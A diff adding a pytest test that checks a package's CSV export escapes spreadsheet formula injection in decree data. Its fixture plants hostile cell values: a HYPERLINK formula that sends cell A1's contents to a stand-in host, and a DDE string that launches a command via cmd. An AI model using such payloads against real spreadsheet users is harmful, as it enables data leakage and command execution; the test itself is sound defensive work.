@@ -4,12 +4,15 @@ from __future__ import annotations
 
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 
 import pokin
 from pokin.cli import main
-from pokin.dataframes import records
+from pokin.dataframes import records, write_tables
+
+from .conftest import jab, make
 
 pd = pytest.importorskip("pandas")
 
@@ -68,6 +71,30 @@ def test_export_tables_read_back(tmp_path: Path, fmt: str) -> None:
     # a second run never replaces files an analyst may have edited, unless --force
     assert main(["export", "sambutan-2023", "--format", fmt, "-o", str(out)]) == 2
     assert main(["export", "sambutan-2023", "--format", fmt, "-o", str(out), "--force"]) == 0
+
+
+def test_csv_cells_never_run_as_formulas(tmp_path: Path) -> None:
+    """A decree's text that a spreadsheet would run (=, +, -, @) is written as text to CSV;
+    numbers, and every value in the frames themselves, are kept as they are."""
+
+    def hostile(d: dict[str, Any]) -> None:
+        staf = jab(d, "staf")
+        staf["nama"] = '=HYPERLINK("http://x.example/?"&A1,"klik")'
+        staf["kinerja"][0]["uraian"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+        staf["kinerja"][0]["indikator"][0]["target"] = "-5"
+
+    tree = make(hostile)
+    (jabatan_csv, *_) = [
+        p for p in write_tables(tree, tmp_path, format="csv") if p.name == "jabatan.csv"
+    ]
+    text = jabatan_csv.read_text(encoding="utf-8")
+    assert "'=HYPERLINK(" in text
+    assert ",=HYPERLINK" not in text
+    kinerja = (tmp_path / "kinerja.csv").read_text(encoding="utf-8")
+    assert "'@SUM(1+1)" in kinerja
+    indikator = pd.read_csv(tmp_path / "indikator.csv", dtype=str)
+    assert "-5" in set(indikator["target"])  # a number stays a number
+    assert pokin.frames(tree).jabatan["nama"].str.startswith("=").any()  # frames unchanged
 
 
 def test_export_tables_refuses_a_file_as_folder(tmp_path: Path) -> None:
